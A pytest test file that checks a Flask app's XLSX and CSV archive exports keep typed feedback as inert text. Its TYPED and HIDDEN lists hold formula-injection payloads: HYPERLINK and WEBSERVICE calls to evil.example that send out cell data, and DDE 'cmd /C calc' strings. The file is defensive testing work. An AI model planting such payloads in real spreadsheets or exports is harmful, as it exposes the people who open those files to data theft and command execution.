"""What colleagues typed is taken away as a table and opened in a real spreadsheet: nothing runs."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import xlsxwriter
from flask import Flask

from adapters.workbook import write_workbook
from operations import feedback
from tests.builders import make_award, make_cast, make_scheme
from tests.finding import catch_up
from tests.fixtures.figures import Tell
from tests.fixtures.office import Open
from tests.fixtures.pages import Client
from views.downloads import csv_file

pytestmark = pytest.mark.prove

TYPED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "=1+41",
    "@SUM(1;41)",
    "+1+41",
    "-1+43",
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "=IMPORTXML(A1;B1)",
    '="a"&"b"',
    "＝1+41",
    "http://evil.example/",
]
# No field keeps these at its beginning; files that came from elsewhere may.
HIDDEN = ["\t=1+41", "\r=1+41", "\n=1+41", "\t+1+41", ' =HYPERLINK("http://evil.example/")']


def test_no_cell_of_an_export_becomes_a_formula(
    app: Flask, client: Client, spreadsheet: Open, tmp_path: Path, tell: Tell
) -> None:
    with app.app_context():
        make_scheme()
        make_award()
        colleague = make_cast().colleague
        for subject in TYPED:
            feedback.post(person_id=colleague, subject=subject, body=f"{subject}\n{subject}")
        catch_up()
    client.sign_in(colleague)
    for form in ("xlsx", "csv"):
        file = tmp_path / f"archive.{form}"
        file.write_bytes(client.get(f"/archive/export.{form}").data)
        sheet = spreadsheet(file)
        assert (sheet.formulas, sheet.links) == ([], [])
        kept = [shown.removeprefix("'") for shown in sheet.shown]
        assert [subject for subject in TYPED if subject not in kept] == []
        assert [text for text in TYPED if f"{text}\n{text}" not in kept] == []
        tell(f"{form}: {len(sheet.shown)} cells, no formula, no link")


def test_what_hides_a_formula_behind_a_blank_stays_text(spreadsheet: Open, tmp_path: Path) -> None:
    """Beside the same cells written without care, which do become formulas."""
    lines = [[cell] for cell in TYPED + HIDDEN]
    book, text = tmp_path / "ours.xlsx", tmp_path / "text.csv"
    with book.open("wb") as file:
        write_workbook(file, "Archive", ["Title"], lines)
    text.write_bytes(csv_file("text.csv", lines).get_data())
    bare_book, bare_text = tmp_path / "bare.xlsx", tmp_path / "loose.csv"
    with xlsxwriter.Workbook(bare_book) as careless:
        sheet = careless.add_worksheet()
        for row, (cell,) in enumerate(lines):
            sheet.write(row, 0, cell)
    with bare_text.open("w", newline="") as careless_text:
        csv.writer(careless_text).writerows(lines)
    for careful in (spreadsheet(book), spreadsheet(text)):
        assert (careful.formulas, careful.links) == ([], [])
    bare, loose = spreadsheet(bare_book), spreadsheet(bare_text)
    assert len(bare.formulas) >= len([each for each in TYPED if each.startswith("=")])
    assert len(loose.formulas) >= len(bare.formulas)
    assert bare.links
